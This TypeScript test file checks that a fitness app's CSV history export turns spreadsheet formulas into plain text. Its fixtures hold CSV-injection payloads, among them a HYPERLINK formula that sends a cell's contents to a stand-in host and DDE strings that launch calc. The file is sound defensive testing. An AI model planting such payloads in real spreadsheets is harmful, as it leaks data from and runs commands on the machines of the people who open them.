import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Workout } from '../../../src/lib/contract-training';
import { workoutExercises, workouts } from '../../db/schema';
import { neutraliseFormula } from '../../domain/account-data/csv-cell';
import { createTestApp, type TestApp } from '../../test/app';
import { catalogueExercises } from '../../test/routines';
import { createTestUser, type TestUser } from '../../test/users';
import { call } from '../../test/call';
import { insertFinishedWorkout } from '../../test/workouts';

/**
 * Names and notes (imported or typed) that a spreadsheet would run as formulas
 * come out of history.csv as text, per OWASP's CSV-injection guidance.
 */
let t: TestApp;
let me: TestUser;
let exerciseId: number;

beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_PER_EMAIL: '10000' });
  me = await createTestUser(t.database.db);
  exerciseId = (await catalogueExercises(t.database.db))[0]!.id;
});
afterAll(() => t.close());

const HYPERLINK = '=HYPERLINK("https://evil.test/?d="&A1;"Ver más")';
/** Written straight to the database, as an import stores a file's names and notes. */
const IMPORTED: { nombre: string; nota: string }[] = [
  { nombre: HYPERLINK, nota: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { nombre: '+34 600 000 000', nota: '\t=1+1' },
  { nombre: "-2+3+cmd|' /C calc'!A0", nota: '\r=1+1' },
  { nombre: 'Pierna', nota: 'bien;=1+1' },
  { nombre: 'Pierna', nota: 'línea 1\n-1+1\r\n@A1' },
  { nombre: 'Pierna, "día" 1', nota: 'Rodilla, bien; "sin dolor" - 5 kg más' },
];
/** Typed in the session screen (PATCH of the exercise's note). */
const TYPED = ['=1+1', '-5', '+5'];

/** A CSV text that no spreadsheet reads a formula out of, however it splits it. */
function expectNoFormulaCell(csv: string) {
  // Quote-unaware splits, as Excel in a locale whose list separator is `;` reads a comma CSV.
  for (const separator of [',', ';', '\t']) {
    for (const line of csv.split(/\r\n|\r|\n/)) {
      for (const cell of line.split(separator)) {
        expect(cell, `a cell after splitting on ${JSON.stringify(separator)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  }
}

describe('history.csv and spreadsheet formulas', () => {
  it('writes every name and note that starts a formula as text: a leading quote, the cell quoted', async () => {
    let day = 1;
    for (const { nombre, nota } of IMPORTED) {
      const id = await insertFinishedWorkout(t.database.db, me.id, new Date(Date.UTC(2025, 0, day++, 9)), [
        { exerciseId, repeticiones: 8, kg: 40 },
      ]);
      await t.database.db.update(workouts).set({ nombre }).where(eq(workouts.id, id));
      await t.database.db.update(workoutExercises).set({ nota }).where(eq(workoutExercises.workoutId, id));
    }
    for (const nota of TYPED) {
      const id = await insertFinishedWorkout(t.database.db, me.id, new Date(Date.UTC(2025, 0, day++, 9)), [
        { exerciseId, repeticiones: 5, kg: 0 },
      ]);
      const session = (await call(t.app, me, 'GET', `workouts/${id}`)).json<Workout>();
      const res = await call(t.app, me, 'PATCH', `workouts/${id}/exercises/${session.ejercicios[0]!.id}`, { nota });
      expect(res.statusCode, res.body).toBe(200);
    }

    const res = await call(t.app, me, 'GET', 'users/me/history.csv');
    expect(res.statusCode, res.body).toBe(200);
    const body = res.body.replace(/^\uFEFF/, '');
    expectNoFormulaCell(body);

    const rows = parse(body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r['Rutina'], r['Notas']])).toEqual([
      [`'${HYPERLINK}`, "'@SUM(1+1)*cmd|' /C calc'!A0"],
      // A tab or CR both starts the cell and splits it: each start gets its quote.
      ["'+34 600 000 000", "'\t'=1+1"],
      ["'-2+3+cmd|' /C calc'!A0", "'\r'=1+1"],
      ['Pierna', "bien;'=1+1"],
      ['Pierna', "línea 1\n'-1+1\r\n'@A1"],
      // Nothing to neutralise: the text is unchanged.
      ['Pierna, "día" 1', 'Rodilla, bien; "sin dolor" - 5 kg más'],
      ['Rutina histórica', "'=1+1"],
      ['Rutina histórica', "'-5"],
      ['Rutina histórica', "'+5"],
    ]);
    // Numbers stay numbers: no quote before kg, repetitions or the set number (never negative).
    expect(rows.map((r) => [r['Serie'], r['Kg'], r['Repeticiones']])).toEqual([
      ...IMPORTED.map(() => ['1', '40', '8']),
      ...TYPED.map(() => ['1', '0', '5']),
    ]);
    // The neutralised cells are quoted in the file itself (OWASP: quote and prefix).
    expect(body).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    expect(body).toContain(`"'-5"`);
    expect(body).toContain(`"bien;'=1+1"`);
  });

  it('leaves safe text alone and neutralises each cell start only once', () => {
    for (const safe of ['', 'Press banca', "'=ya neutralizada", 'a - b', '3 x 10 @ 60 kg', ' =con espacio']) {
      expect(neutraliseFormula(safe)).toBe(safe);
    }
    expect(neutraliseFormula('=A1,+B1;-C1\t@D1')).toBe("'=A1,'+B1;'-C1\t'@D1");
  });
});
